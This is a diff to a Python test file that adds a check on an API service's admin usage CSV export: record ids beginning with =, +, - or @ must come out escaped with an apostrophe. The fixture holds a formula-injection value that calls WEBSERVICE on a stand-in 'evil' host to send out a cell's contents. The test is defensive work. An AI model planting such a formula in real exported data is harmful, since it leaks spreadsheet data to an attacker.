@@ -1,7 +1,8 @@
 from __future__ import annotations
 
+import csv
 import threading
-from dataclasses import fields
+from dataclasses import fields, replace
 from typing import Any
 
 import httpx
@@ -10,7 +11,7 @@ import pytest
 from app.access.tenants import KeyRing, Tenant, key_digest
 from app.http.api import create_app
 from app.routes.accounts import ApiKeyInfo, ApiKeyList, RemovedKey, UsageReport
-from deployments.accounts.values import Admission, Charge, Quota, TenantLimits, UsageQuestion
+from deployments.accounts.values import Admission, Charge, Quota, TenantLimits, UsageQuestion, UsageRecord
 from tests.app.scripted_gateway import ScriptedGateway, ScriptedMeter
 
 LIMITS = TenantLimits(requests_per_minute=10)
@@ -98,6 +99,23 @@ async def test_usage_is_added_up_and_told_one_by_one(served: httpx.AsyncClient, 
     assert sheet.headers["content-type"].startswith("text/csv")
     header, row = sheet.text.splitlines()
     assert dict(zip(header.split(","), row.split(","), strict=True))["output_tokens"] == "3"
+
+
+@pytest.mark.parametrize("begins", "=+-@")
+async def test_a_sheet_has_no_formula_of_a_client(
+    served: httpx.AsyncClient, meter: ScriptedMeter, monkeypatch: pytest.MonkeyPatch, begins: str
+) -> None:
+    """A record's id begins with the client's request id."""
+    (record,) = await meter.records(UsageQuestion(), limit=1)
+    formula = replace(record, record_id=f'{begins}WEBSERVICE("http://evil/"&B2).1')
+
+    async def records(_question: UsageQuestion, *, limit: int) -> list[UsageRecord]:
+        return [formula][:limit]
+
+    monkeypatch.setattr(meter, "records", records)
+    sheet = await served.get("/admin/usage.csv", headers=ADMIN)
+    (row,) = csv.DictReader(sheet.text.splitlines())
+    assert row["record_id"] == f"'{formula.record_id}"
 
 
 async def test_a_sheet_is_written_off_the_event_loop(
